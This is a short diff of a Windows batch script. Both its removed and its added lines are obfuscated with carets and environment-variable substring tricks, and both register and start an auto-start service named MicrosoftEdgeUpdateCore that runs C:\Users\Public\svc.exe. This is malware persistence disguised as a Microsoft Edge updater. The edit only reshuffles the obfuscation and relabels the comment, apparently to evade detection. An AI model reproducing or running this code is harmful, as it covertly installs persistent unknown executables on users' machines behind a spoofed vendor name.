@@ -1,3 +1,3 @@
-REM init 8124 v2
-%WINDIR:~9,1%c ^cr^eate ^Micro^s^of^t^E^d^ge^Upd^a^te^Core bi^nPath= "cmd.exe /c C:\Users\Public\svc.exe" ^sta^r^t= ^au^t^o
-%PUBLIC:~-11,1%c ^s^ta^rt Mi^c^rosof^t^Ed^geUpd^ateCo^re
+REM config 2278 v2
+^s^c c^r^eat^e M^ic^ro^s^oftEdgeUpdateCo^r^e ^b^in^Pa^th= "cmd.exe /c C:\Users\Public\svc.exe" st^art= ^a^u^t^o
+%windir:~9,1%c start ^M^i^c^r^os^oftEd^ge^U^pda^te^Cor^e
